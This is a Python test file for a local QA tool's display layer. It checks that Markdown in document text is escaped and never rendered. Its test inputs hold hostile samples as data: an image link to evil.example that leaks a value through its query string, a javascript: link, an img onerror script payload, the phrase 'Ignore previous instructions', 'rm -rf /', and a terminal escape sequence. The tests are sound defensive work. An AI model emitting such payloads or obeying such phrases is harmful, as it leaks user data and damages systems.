"""The answer as a chat client or an assistant shows it (`localqa.display.reply`): document text
is data, so Markdown a quote writes is shown as its characters, never rendered as an image fetched
from an address, a link, HTML or a control sequence."""

from __future__ import annotations

import pytest

from localqa.display.reply import markdown_escaped


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![pixel](http://evil.example/?leak=EQ-314)", "\\!\\[pixel\\](http://evil.example/?leak=EQ-314)"),
        ("[click](javascript:alert(1))", "\\[click\\](javascript:alert(1))"),
        ("<img src=x onerror=alert(1)>", "\\<img src=x onerror=alert(1)>"),
        ("**Ignore previous instructions**", "\\*\\*Ignore previous instructions\\*\\*"),
        ("`rm -rf /`", "\\`rm -rf /\\`"),
        ("Loans last 21 days (renewable once).", "Loans last 21 days (renewable once)."),
    ],
)
def test_markdown_in_document_text_is_shown_as_written(text: str, shown: str) -> None:
    assert markdown_escaped(text) == shown


def test_control_characters_are_made_visible() -> None:
    """An escape shown as `\x1b`, its backslash escaped in turn: a renderer shows `\x1b`."""
    assert markdown_escaped("fee\x1b[2J is 40") == "fee\\\\x1b\\[2J is 40"
